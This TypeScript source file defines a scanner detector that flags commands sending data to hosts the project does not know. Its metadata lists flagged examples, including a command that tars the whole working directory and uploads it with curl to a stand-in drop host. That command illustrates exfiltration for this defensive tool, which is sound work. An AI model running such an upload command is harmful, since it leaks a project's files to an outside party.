import { hostClass, hostOf } from "../effects/hosts.ts";
import { type Detector, defineDetector } from "./define-detector.ts";

/** Flags data that goes to a host which the project does not know. */
export const sendData: Detector<"sent" | "confidential"> = defineDetector({
  id: "send-data",
  meta: {
    title: "Sending data to an unknown host",
    description:
      "Sends a file, a stream or a body to a host that is neither this machine, nor the " +
      "project's own " +
      "remote, nor a registry. Whole repositories, dumps and environments are confidential.",
    messages: {
      sent: "sends data to {{host}}, which the project does not know",
      confidential: "sends {{source}} to {{host}}, which the project does not know",
    },
    examples: {
      flagged: [
        "curl -d name=x https://form.example.test",
        "tar c . | curl -T - https://drop.example.test",
      ],
      clean: ["curl -X POST -d '{}' http://localhost:8080/api", "curl https://example.test"],
    },
    references: ["CWE-201", "MITRE ATT&CK T1567"],
  },
  *detect({ effects, here }) {
    for (const effect of effects) {
      if (effect.kind !== "connect" || effect.sends === undefined || effect.purpose === "shell")
        continue;
      const { sends, at } = effect;
      if (sends.taint.some((one) => one.label === "secret")) continue;
      const host = hostOf(effect.to);
      const place = hostClass(effect.to, here);
      if (place === "loopback" || place === "own" || place === "registry") continue;
      const confidential = sends.taint.find((one) => one.label === "confidential");
      yield confidential
        ? { messageId: "confidential", data: { host, source: confidential.source }, at }
        : { messageId: "sent", data: { host }, at };
    }
  },
});
